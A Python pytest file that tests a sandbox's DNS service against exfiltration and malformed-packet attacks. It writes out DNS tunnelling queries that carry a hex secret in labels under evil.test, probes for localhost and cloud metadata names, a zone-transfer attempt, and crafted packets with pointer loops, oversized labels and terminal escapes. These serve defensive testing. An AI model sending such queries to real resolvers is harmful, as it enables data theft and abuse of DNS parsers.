"""The name service inside is no way out: what it is asked stays here, whatever the question looks like."""

import json
from typing import Any

import pytest
from egress.queries import AAAA, ANY, AXFR, IXFR, MX, NS, NULL, PTR, SRV, TXT, A, ask, extended, message, raw
from egress.services import CONTROL, WORD, Service, attack

SECRET = "6b6579" * 9
OK, FORMAT, NONE, NOT_IMPLEMENTED, REFUSED = 0, 1, 3, 4, 5
SILENT = None
QUESTION = ask("exact.test")[12:]

# A query -> the code that answers it; in none of the answers there is a record.
EMPTY: dict[str, tuple[bytes, int | None]] = {
    "data in a label": (ask(f"{SECRET}.evil.test"), NONE),
    "data in four labels": (ask(".".join([SECRET] * 4) + ".test"), NONE),
    "data below an allowed name": (ask(f"{SECRET}.exact.test"), NONE),
    "data in a TXT query": (ask(f"{SECRET}.evil.test", TXT), NONE),
    "data in a NULL query": (ask(f"{SECRET}.evil.test", NULL), NONE),
    "a name of one label": (ask("test"), NONE),
    "the root": (ask(""), NONE),
    "the root's servers": (ask("", NS), NONE),
    "the apex of a wildcard": (ask("wild.test"), NONE),
    "the address of the name service backwards": (ask("1.0.18.198.in-addr.arpa", PTR), NONE),
    "loopback backwards": (ask("1.0.0.127.in-addr.arpa", PTR), NONE),
    "localhost": (ask("localhost"), NONE),
    "metadata": (ask("metadata.google.internal"), NONE),
    "an address as a name": (ask("127.0.0.1"), NONE),
    "a number as a name": (ask("2130706433"), NONE),
    **{
        f"type {kind} of an allowed name": (ask("exact.test", kind), OK)
        for kind in (NS, NULL, PTR, MX, TXT, SRV, IXFR, AXFR, 5, 6, 41, 65, 256, 65535)
    },
    "a zone transfer": (ask("test", AXFR), NONE),
    "the version of the server": (ask("version.bind", TXT, 3), REFUSED),
    "the class CHAOS": (ask("exact.test", A, 3), REFUSED),
    "every class": (ask("exact.test", A, 255), REFUSED),
    "an update": (message(QUESTION, 5 << 11), NOT_IMPLEMENTED),
    "a notification": (message(QUESTION, 4 << 11), NOT_IMPLEMENTED),
    "a status query": (message(QUESTION, 2 << 11), NOT_IMPLEMENTED),
    "an inverse query": (message(QUESTION, 1 << 11), NOT_IMPLEMENTED),
    "a response": (message(QUESTION, 0x8180), SILENT),
    "no byte": (b"", SILENT),
    "one byte": (b"\0", SILENT),
    "half a header": (message(b"")[:11], SILENT),
    "a header alone": (message(b""), FORMAT),
    "no question": (message(QUESTION, counts=(0, 0, 0, 0)), FORMAT),
    "two questions": (message(QUESTION * 2, counts=(2, 0, 0, 0)), FORMAT),
    "65535 questions": (message(QUESTION, counts=(65535, 0, 0, 0)), FORMAT),
    "answers in a query": (message(QUESTION, counts=(1, 65535, 0, 0)), FORMAT),
    "authorities in a query": (message(QUESTION, counts=(1, 0, 1, 0)), FORMAT),
    "a pointer to itself": (raw(b"\xc0\x0c"), FORMAT),
    "a pointer to the header": (raw(b"\xc0\x00"), FORMAT),
    "a pointer after a label": (raw(b"\x05exact\xc0\x0c"), FORMAT),
    "two pointers to each other": (raw(b"\xc0\x0e\xc0\x0c"), FORMAT),
    "a pointer beyond the end": (raw(b"\xff\xff"), FORMAT),
    "a label of 64 bytes": (raw(b"\x40" + b"a" * 64 + b"\0"), FORMAT),
    "a label of 128 bytes": (raw(b"\x80" + b"a" * 128 + b"\0"), FORMAT),
    "a label beyond the end": (message(b"\x3fexact"), FORMAT),
    "a name without an end": (message(b"\x05exact\x04test"), FORMAT),
    "a question without a class": (message(QUESTION[:-2]), FORMAT),
    "a name of 256 bytes": (raw(b"\x3f" + b"a" * 63 + (b"\x3f" + b"a" * 63) * 3 + b"\0"), FORMAT),
    "500 labels": (raw(b"\x01a" * 500 + b"\0"), FORMAT),
    "a dot in a label": (raw(b"\x0aexact.test\0"), NONE),
    "a NUL in a label": (raw(b"\x0aexact\0test\0"), NONE),
    "a NUL after an allowed name": (raw(b"\x05exact\x05test\0\0"), NONE),
    "a blank, and what follows": (raw(b"\x05exact\x05test \0"), NONE),
    "a line end in a label": (raw(b"\x05exact\x06test\r\n\0"), NONE),
    "a terminal's escape": (raw(b"\x08\x1b[2Jexac\x04test\0"), NONE),
    "bytes beyond ASCII": (raw(b"\x06\xc3\xa9xact\x04test\0"), NONE),
    "a star": (raw(b"\x01*\x04wild\x04test\0"), NONE),
    "a long rest": (ask("evil.test") + bytes(3000), NONE),
    "a subnet for the resolver": (extended("evil.test", b"\0\x08\0\x07\0\1\x18\0\x7f\0\0"), NONE),
    "an option that is longer than it is": (extended("evil.test", b"\0\x0a\xff\xff"), NONE),
}
# Queries that are answered, with the number of records.
FULL = {
    "an allowed name": (ask("exact.test"), 1),
    "its IPv6 address": (ask("exact.test", AAAA), 1),
    "any of its records": (ask("exact.test", ANY), 2),
    "in capitals": (ask("EXACT.TEST"), 1),
    "below a wildcard": (ask(f"{SECRET}.wild.test"), 1),
    "with an option": (extended("exact.test", b""), 1),
    "with bytes after it": (ask("exact.test") + b"rest", 1),
}

# A query that is known to be answered follows each one, so that silence needs no waiting.
CONVERSE = """
marker = bytes.fromhex(target["marker"])
def header(reply):
    identity, flags, _, answers = struct.unpack_from("!4H", reply)
    return [identity, flags >> 15, flags & 15, answers]
def datagrams(query):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
        end.settimeout(5)
        end.connect(("55.198.0.1", 53))
        for message in (query, marker):
            end.send(message)
        replies = []
        while not replies or replies[-1][0] != 1:
            replies.append(header(end.recv(65535)))
        return replies[:-1]
def stream(query):
    with socket.create_connection(("55.198.0.1", 53), 5) as end:
        try:
            end.sendall(b"".join(len(message).to_bytes(2, "big") + message for message in (query, marker)))
            replies = []
            while not replies or replies[-1][0] != 1:
                size = end.recv(2, socket.MSG_WAITALL)
                if not size:
                    return replies
                replies.append(header(end.recv(int.from_bytes(size, "big"), socket.MSG_WAITALL)))
            return replies[:-1]
        except ConnectionResetError:
            return replies
say({"replies": {name: [datagrams(query), stream(query)] for name, query in
                 ((name, bytes.fromhex(text)) for name, text in target["queries"].items())},
     "control": control()})
"""


@pytest.fixture(scope="module")
def conversation(service: Service) -> dict[str, Any]:
    """The replies over UDP and over TCP to every query, and the names that left the sandbox."""
    marker = b"\0\1" + ask("exact.test")[2:]
    queries = {name: query.hex() for name, (query, _) in (*EMPTY.items(), *FULL.items())}
    outside = service.outside("*.wild.test", "exact.test")
    said, inside = attack(
        CONVERSE, outside, service.port, target={"marker": marker.hex(), "queries": queries}
    )
    return {**said, "asked": outside.asked, "record": json.dumps(inside.network), "denials": outside.denials}


@pytest.mark.parametrize("name", EMPTY)
def test_a_query_that_is_answered_without_any_record(name: str, conversation: dict[str, Any]) -> None:
    code = EMPTY[name][1]
    expected = [] if code is None else [[0x4D43, 1, code, 0]]
    assert conversation["replies"][name] == [expected, expected]


@pytest.mark.parametrize("name", FULL)
def test_the_same_service_does_answer(name: str, conversation: dict[str, Any]) -> None:
    expected = [[0x4D43, 1, OK, FULL[name][1]]]
    assert conversation["replies"][name] == [expected, expected]


def test_no_question_left_the_sandbox(conversation: dict[str, Any]) -> None:
    """Not even one for a name that is allowed: only a connection needs the host's resolver."""
    assert conversation["control"] == WORD
    assert conversation["asked"] == [CONTROL]


def test_what_was_asked_shows_as_plain_text(conversation: dict[str, Any]) -> None:
    shown = "".join(conversation["denials"])
    assert shown.isascii()
    assert shown.isprintable()
    assert "evil.test" in conversation["record"]
    assert "\\u" not in conversation["record"]
